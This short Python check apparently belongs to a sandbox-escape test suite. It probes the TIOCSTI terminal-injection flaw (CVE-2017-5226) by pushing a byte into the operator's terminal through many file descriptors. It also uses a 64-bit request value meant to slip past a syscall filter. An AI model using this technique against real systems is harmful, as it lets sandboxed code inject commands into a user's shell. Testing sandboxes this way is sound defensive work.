# Pushes a command into the operator's terminal (TIOCSTI, CVE-2017-5226).
# stage: terminal
# needs: TIOCSTI
done = []
for descriptor in (*range(64), *([os.open("/dev/tty", os.O_RDWR)] if os.access("/dev/tty", os.R_OK) and does(lambda: os.open("/dev/tty", os.O_RDWR)) else [])):
    for request in (0x5412, 0x100005412):  # the kernel looks at 32 bits, a filter may look at 64
        done.append(syscall("ioctl", descriptor, request, b"x")[0] == 0)
decide(any(done))
